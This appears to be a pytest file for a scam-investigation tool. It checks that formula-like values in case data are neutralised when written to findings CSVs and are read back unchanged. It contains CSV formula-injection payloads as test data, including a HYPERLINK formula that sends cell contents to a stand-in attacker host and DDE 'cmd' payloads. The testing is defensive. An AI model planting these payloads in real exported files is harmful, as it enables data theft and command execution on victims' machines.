"""Spreadsheet formula injection: values from the case that start like a formula (``=``, ``@``,
``+cmd|``, ``-``) leave ``detect`` inert in every findings CSV, and every reader of findings
gives them back exactly (``scamtrace.core.formulas``).

The hand-made case with its gang's SIP accounts, mule accounts, call, transfer and complaint
ids renamed to formulas, two transcripts on renamed calls, and one transfer amount that is a
formula (set aside, so it reaches ``rejected.csv``).
"""

from __future__ import annotations

import csv
import html
import re
from pathlib import Path

import pytest

from scamtrace.core.findings import evidence_spans, read_evidence
from scamtrace.core.formulas import TRIGGERS, neutral
from scamtrace.detect.runner import detect
from scamtrace.evaluate import evaluate
from scamtrace.language.classifier import THRESHOLD, load_classifier
from scamtrace.report import write_report
from scamtrace.report.load import ENTITY_COLUMNS, read_findings_csv
from scamtrace.share.export.base import load_findings, write_findings
from scamtrace.simulate.text import render_transcripts
from tests.detect import handmade as hm

RENAMED = {
    hm.CENTER_ACCOUNTS[0]: '=HYPERLINK("http://evil.example/?"&A1,"open")',
    hm.CENTER_ACCOUNTS[1]: "@SUM(1+1)*cmd|' /C calc'!A0",
    hm.MULE: "+cmd|' /C calc'!A0",
    hm.MULE2: "-2+3+cmd|' /C calc'!A0",
    "V00001": "=V00001",
    "V00102": "@V00102",
    "C00104": "-C00104",
    "C00107": "=C00107",
    "T00001": "@T00001",
    "T00002": "=T00002",
    "R001": "=R001",
}
#: A transfer amount that cannot be read: the row is set aside with its value.
BAD_AMOUNT_TX = "T00010"
BAD_AMOUNT = "=1+2"
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def _rewrite(path: Path, change: dict[str, str], amount_of: str | None = None) -> None:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    out = [rows[0]]
    for row in rows[1:]:
        if amount_of is not None and row[0] == amount_of:
            row[rows[0].index("amount")] = BAD_AMOUNT
        out.append([change.get(cell, cell) for cell in row])
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(out)


@pytest.fixture(scope="module")
def case_and_findings(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("formulas")
    case = hm.build(root / "case")
    texts = render_transcripts(["police", "police"], "zh", 7)
    scores, _ = load_classifier().predict(texts, ["zh", "zh"])
    assert all(s >= THRESHOLD for s in scores)  # the premise: both read as scam calls
    with (case / "transcripts.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["call_id", "source", "language", "text"])
        w.writerows([["C00104", "carrier_cdr", "zh", texts[0]],
                     ["C00107", "carrier_cdr", "zh", texts[1]]])  # fmt: skip
    for name in ("carrier_cdr", "voip_cdr", "accounts", "transfers", "reports", "transcripts"):
        _rewrite(case / f"{name}.csv", RENAMED, BAD_AMOUNT_TX if name == "transfers" else None)
    # ground truth as a simulated case keeps it: written with the same rule
    (case / "truth").mkdir()
    with (case / "truth" / "entities.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["kind", "value", "network_id", "center_id", "role"])
        for account in hm.CENTER_ACCOUNTS:
            w.writerow(["sip_account", neutral(RENAMED[account]), "n1", "c1", "operator"])
        for mule in (hm.MULE, hm.MULE2):
            w.writerow(["mule_account", neutral(RENAMED[mule]), "n1", "", "mule"])
    out = root / "findings"
    detect(case, out)
    write_report(out)
    return case, out


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_no_findings_cell_starts_a_formula(case_and_findings: tuple[Path, Path]) -> None:
    _, out = case_and_findings
    written = sorted(out.glob("*.csv"))
    assert {p.stem for p in written} >= {"entities", "leads", "transfers", "centers", "networks",
                                         "evidence", "scripts", "rejected"}  # fmt: skip
    every = {p.name: _cells(p) for p in written}
    unsafe = {name: [c for c in cells
                     if c[:1] and c[0] in TRIGGERS and not PLAIN_NUMBER.fullmatch(c)]
              for name, cells in every.items()}  # fmt: skip
    assert not any(unsafe.values()), unsafe
    # the renamed values did reach the findings, made inert
    for name, value in (
        ("entities.csv", RENAMED[hm.CENTER_ACCOUNTS[0]]),
        ("entities.csv", RENAMED[hm.MULE]),
        ("transfers.csv", "@T00001"),
        ("evidence.csv", "=V00001"),
        ("evidence.csv", "=R001"),
        ("evidence.csv", "-C00104"),
        ("rejected.csv", BAD_AMOUNT),
    ):
        assert "'" + value in every[name], (name, value)
    # plain numbers (E.164 values, amounts) are left as they are
    assert any(c.startswith("+86") for c in every["entities.csv"])


def test_findings_read_back_give_the_values_found(case_and_findings: tuple[Path, Path],
                                                   tmp_path: Path) -> None:  # fmt: skip
    case, out = case_and_findings
    findings = load_findings(out)
    by_kind = {(r["kind"], r["value"]) for r in findings.entities if float(r["score"]) >= 0.5}
    expected = {("sip_account", RENAMED[a]) for a in hm.CENTER_ACCOUNTS} | {
        ("mule_account", RENAMED[m]) for m in (hm.MULE, hm.MULE2)}  # fmt: skip
    assert expected <= by_kind
    assert {"@T00001", "=T00002"} <= {r["tx_id"] for r in findings.transfers}
    assert {r["payee_account"] for r in findings.transfers} >= {RENAMED[hm.MULE]}
    assert ("sip_account", RENAMED[hm.CENTER_ACCOUNTS[0]]) in evidence_spans(out)
    evidence = read_evidence(out)
    assert {"=V00001", "=R001", "-C00104"} <= {r["record_id"] for r in evidence}
    # the report reads the same values, and shows them without the '
    table, _ = read_findings_csv(out / "entities.csv", ENTITY_COLUMNS)
    assert RENAMED[hm.MULE] in table.column("value").to_pylist()
    page = (out / "report.html").read_text(encoding="utf-8")
    assert html.escape(RENAMED[hm.CENTER_ACCOUNTS[1]]) in page
    assert html.escape("'" + RENAMED[hm.CENTER_ACCOUNTS[1]]) not in page
    # evaluate compares the values found with the truth
    scores = evaluate(out, case)
    assert scores.kinds["sip_account"].true_positives == 2
    assert scores.kinds["mule_account"].true_positives == 2
    # a findings folder written back (stix-import) keeps the rule, and reads back the same
    write_findings(findings, tmp_path / "again")
    again = load_findings(tmp_path / "again")
    assert again.entities == findings.entities and again.transfers == findings.transfers
    assert "'" + RENAMED[hm.MULE] in _cells(tmp_path / "again" / "entities.csv")
